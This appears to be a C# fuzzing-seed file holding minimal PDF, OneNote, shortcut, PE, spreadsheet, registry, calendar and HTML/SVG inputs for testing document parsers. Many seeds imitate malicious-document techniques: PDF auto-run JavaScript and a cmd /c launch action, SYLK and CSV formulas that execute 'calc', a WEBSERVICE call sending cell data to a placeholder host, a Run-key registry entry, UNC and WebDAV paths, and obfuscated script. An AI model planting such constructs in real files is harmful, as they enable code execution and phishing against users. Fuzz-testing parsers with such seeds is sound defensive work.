using System.Text;

namespace Platform.Fuzz.Targets.Documents;

/// <summary>Small good files of each format, and the pieces that mean something to its reader.</summary>
internal static class DocumentInputs
{
    public static IReadOnlyList<byte[]> Pdf { get; } =
    [
        Bytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R /Names << /JavaScript << /Names [(a) 2 0 R] /Kids [1 0 R] >> >> /AcroForm << /XFA 4 0 R >> >>\nendobj\n2 0 obj\n<< /S /J#61vaScript /JS (app.alert\\(\\141\\)) /Next 2 0 R >>\nendobj\n3 0 obj\n<< /Type /Page /Contents [4 0 R] /MediaBox [0 0 9 9] /Annots [<< /Rect [0 0 9 9] /A << /S /URI /URI <687474703A2F2F612E62> >> >>] >>\nendobj\n4 0 obj\n<< /Length 20 /Filter [/AHx] >>\nstream\n42542028612920546A>\nendstream\nendobj\ntrailer << /Root 1 0 R >>"),
        Bytes("%PDF-1.4\n1 0 obj\n<< /Type /ObjStm /N 2 /First 8 >>\nstream\n5 0 6 3 [1]<</S/Launch/Win<</F(cmd)/P(/c)>>>>\nendstream\nendobj\n2 0 obj << /EF << /F 3 0 R >> /UF (a.exe) >> endobj 3 0 obj << /Type /EmbeddedFile /Filter [/A85 /LZW /RL] /DecodeParms [null << /EarlyChange 0 >>] >> stream\nJ..)6T`?p&<!J9%_[umg\"B7/Z7KNXbN'S+,*Q/&\"OLT'F~>\nendstream endobj"),
        Bytes("%PDF-1.6\n1 0 obj (abc) endobj 2 0 obj << /JS 1 0 R >> endobj trailer << /ID [<00>] /Encrypt << /Filter /Standard /V 4 /R 4 /Length 128 /P -4 /CF << /StdCF << /CFM /AESV2 >> >> /StmF /StdCF /StrF /StdCF /O <" + new string('A', 64) + "> /U <" + new string('B', 64) + "> >> >>"),
        Bytes("%PDF-1.7\n5 0 obj << /Subtype /Image /Width 24 /Height 24 /BitsPerComponent 1 /ColorSpace /DeviceGray >> stream\n" + new string('x', 72) + "\nendstream endobj 6 0 obj << /Type /Page /Contents 7 0 R /Resources << /Font << /F1 << /Subtype /Type0 /ToUnicode 8 0 R >> >> >> >> endobj 7 0 obj << >> stream\nBT /F1 9 Tf [<0001> -300 (a)] TJ ET BI ID x EI\nendstream endobj 8 0 obj << >> stream\n1 begincodespacerange <0000> <FFFF> endcodespacerange 1 beginbfrange <0001> <0009> <0041> endbfrange 1 beginbfchar <0002> <0042> endbfchar\nendstream endobj"),
    ];

    public const string PdfTokens = " obj|endobj|stream\n|endstream|trailer|<<|>>|[|]|(|)|<|>|/|%|\\|#41| 0 R|/Type /ObjStm|/Type /XRef|/Filter /FlateDecode|/FlateDecode|/LZWDecode|/ASCII85Decode|/RunLengthDecode|/DecodeParms << /Predictor 15 /Columns 3 /Colors 4 /BitsPerComponent 16 >>|/Length 99999999|/N 9999|/First -1|/Next 1 0 R|/Parent 1 0 R|/Kids [1 0 R]|/JS|/EF|/Encrypt|BT|Tj|TJ|Tf|Do|BI|ID|EI|beginbfrange|endbfrange|endcodespacerange|<0001> <FFFF> <0041>|99999999999";

    public static IReadOnlyList<byte[]> OneNote { get; } =
    [
        [
            0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3, .. new byte[32], 0x3F, 0xDD, 0x9A, 0x10, 0x1B, 0x91, 0xF5, 0x49, 0xA5, 0xD0, 0x17, 0x91, 0xED, 0xC8, 0xAE, 0xD8,
            .. DataBegin, 5, 0, 0, 0, 0, 0, 0, 0, .. new byte[12], .. "hello"u8, 64, 0, 0, 0, 0, 0, 0, 0, .. new Guid("00112233-4455-6677-8899-aabbccddeeff").ToByteArray(),
            .. Encoding.Unicode.GetBytes("<ifndf>{00112233-4455-6677-8899-aabbccddeeff}"), 4, 0, 0, 0, .. Encoding.Unicode.GetBytes(".bat"), 0, 0, .. Encoding.Unicode.GetBytes("click here https://x.test/ a.bat"),
        ],
    ];

    public static IReadOnlyList<byte[]> OneNoteTokens { get; } =
        [DataBegin, [0xFF, 0xFF, 0xFF, 0xFF], [4, 0, 0, 0], new Guid("00112233-4455-6677-8899-aabbccddeeff").ToByteArray(), .. "<ifndf>{|}|.exe|a.exe|https://".Split('|').Select(Encoding.Unicode.GetBytes)];

    public static IReadOnlyList<byte[]> ShellLink { get; } =
    [
        [
            0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, 0xFF, 2, 0, 0, .. new byte[52], 0x2A, 0, 0x16, 0, 0x1F, 0x50, .. new byte[18], 0x12, 0, 0x32, 0, .. new byte[8], 0x20, 0, .. "a.exe\0"u8, 0, 0,
            29, 0, 0, 0, 28, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 28, 0, 0, 0, 0, 0, 0, 0, 28, 0, 0, 0, 0, 1, 0, (byte)'n', 0, 1, 0, (byte)'r', 0, 1, 0, (byte)'w', 0, 2, 0, (byte)'/', 0, (byte)'c', 0, 1, 0, (byte)'i', 0,
            12, 0, 0, 0, 3, 0, 0, 0xA0, 1, 2, 3, 4, 0, 0, 0, 0, .. "MZ"u8, .. new byte[70],
        ],
    ];

    public static IReadOnlyList<byte[]> ShellLinkTokens { get; } =
        [[0xFF, 0xFF], [0, 0], [0x14, 3, 0, 0, 1, 0, 0, 0xA0], [0xFF, 0xFF, 0xFF, 0x7F], [4, 0, 0xEF, 0xBE], [9, 0], [0x31, 0], [0xC3, 1], [0x61, 0x80], Bytes("\\\\203.0.113.9\\a"), Encoding.Unicode.GetBytes("cmd.exe"), Bytes("cmd.exe\0")];

    public static IReadOnlyList<byte[]> Program { get; } =
    [
        [.. "MZ"u8, .. new byte[58], 0x80, 0, 0, 0, .. new byte[64], .. "PE\0\0"u8, 0x64, 0x86, 1, 0, .. new byte[12], 0xF0, 0, 2, 1, 0x0B, 2, .. new byte[238], .. "UPX0\0\0\0\0"u8, .. new byte[32], .. Encoding.Unicode.GetBytes("StringFileInfo\0OriginalFilename\0\0a.exe\0ProductName\0")],
    ];

    public const string ProgramTokens = "PE\0\0|MZ|\u00ff\u00ff|\0\0|StringFileInfo|OriginalFilename|.text|UPX0";

    public static string[] Shortcuts { get; } =
    [
        "[InternetShortcut]\r\nURL=file://203.0.113.9/x/a.exe\r\nIconFile=\\\\a.test@SSL\\DavWWWRoot\\b.ico\r\n",
        "<?xml version=\"1.0\"?><persistedQuery><query><scope><include path=\"\\\\a.test\\b\"/></scope></query><DeepLink>%windir%\\cmd.exe /c a</DeepLink><string>file:///a</string></persistedQuery>",
        "full address:s:a.test:3389\r\ndrivestoredirect:s:*\r\n",
        "ID;P\r\nO;E\r\nNN;NAuto_open\r\nC;X1;Y1;EEXEC(\"calc\")\r\n",
        "a,b\r\n\"=cmd|'/c calc'!A0\",=WEBSERVICE(\"http://a.test/\"&A1)\r\n",
        "Windows Registry Editor\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"b\"\r\n",
        "WEB\r\n1\r\nhttp://a.test/b\r\n",
    ];

    public const string ShortcutTokens = "[|]|=|\r\n|\\\\|//|file:|@SSL|DavWWWRoot|<|>|</|\"|;|;E|C;|'|!|(|,|+|-|@|http://|URL=|Exec=|:s:|javascript:|search-ms:|\0|<![CDATA[|]]>";

    public static string[] Calendar { get; } =
    [
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"A: b\":mailto:a@b.test\r\nSUMMARY:x\\, y\r\nDESCRIPTION:see https://a.te\r\n st/b\\nend\r\nX-ALT-DESC;FMTTYPE=text/html:<a href=\"http://a.test/\">b</a>\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.txt:aGVsbG8=\r\nATTACH:file://a.test/b.exe\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    ];

    public const string CalendarTokens = "\r\n | |;|:|\"|=|\\n|\\,|ATTACH|X-ALT-DESC|DESCRIPTION|ENCODING=BASE64|mailto:|https://|<a href=|\n\t";

    public static string[] Page { get; } =
    [
        "<!DOCTYPE html><html><head><meta http-equiv=\"refresh\" content=\"0;url='data:text/html;base64,PGI+'\"><base href=//a.test><script type=text/javascript>document.write(unescape('%3Cform%3E'))</script></head><body onload='location=\"http://a.test/\"'><iframe srcdoc=\"<script>1</script> and more text\"></iframe><input type=password><a href=\"java&#10;script:alert(1)\">x</a></body></html>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><svg:script><![CDATA[location=atob('aHR0cA==')]]></svg:script><foreignObject/><animate to=\"javascript:1\"/></svg>",
        "<script language=\"VBScript.Encode\">#@~^DgAAAA==\\ko$K6,JCmV^GJpAQAAA==^#~@</script><script>var a=[77,90,144,0,3,0,0,0,4]; new Blob([new Uint8Array(a)]); x.download='a'</script>",
    ];

    public const string PageTokens = "<script>|</script|<svg:script>|<!--|-->|<![CDATA[|]]>|<|>|/>|=|\"|'|&#x41;|&amp;|javascript:|data:text/html;base64,|data:,|onload=|src=|href=|#@~^|^#~@|@&|atob(|unescape('|%41|\\x41|location=|URL.createObjectURL|.download|AAAAAAAAAAAAAAAA|77,90,144,|srcdoc=";

    private static byte[] DataBegin => [0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45, 0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC];

    private static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);
}
